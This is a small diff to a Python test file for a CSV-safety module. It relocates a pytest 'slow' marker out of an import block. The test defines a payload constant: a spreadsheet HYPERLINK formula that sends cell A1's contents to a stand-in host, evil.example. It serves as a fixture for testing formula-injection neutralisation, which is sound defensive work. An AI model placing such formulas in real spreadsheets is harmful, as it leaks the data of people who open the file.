@@ -20,8 +20,6 @@ from click.testing import CliRunner
 
 from safi_map.cli.main import cli
 from safi_map.core.csvsafe import (
-
-pytestmark = pytest.mark.slow  # whole builds; the README's command runs them
     FORMULA_PREFIXES,
     neutralise,
     neutralise_frame,
@@ -29,6 +27,8 @@ pytestmark = pytest.mark.slow  # whole builds; the README's command runs them
     safe_cell,
     safe_row,
 )
+
+pytestmark = pytest.mark.slow  # whole builds; the README's command runs them
 
 PAYLOAD = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'
 SURVEY = (
